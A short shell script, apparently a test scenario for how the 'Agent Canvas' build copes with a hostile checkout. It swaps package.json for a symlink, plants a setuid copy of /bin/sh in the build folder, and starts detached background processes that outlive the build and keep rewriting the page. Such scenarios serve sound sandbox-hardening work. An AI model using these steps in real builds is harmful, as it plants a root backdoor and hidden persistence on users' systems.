# What a hostile checkout of Agent Canvas does when its page is built (attack checkout-is-code).
mkdir build
echo page >build/index.html
rm package.json
ln -s owned.cjs package.json
cp /bin/sh build/shell && chmod 4755 build/shell
setsid sleep 86399 >/dev/null 2>&1 &
nohup sh -c '(sleep 86399 &)' >/dev/null 2>&1
(while :; do echo again >build/index.html; sleep 86399; done) >/dev/null 2>&1 &
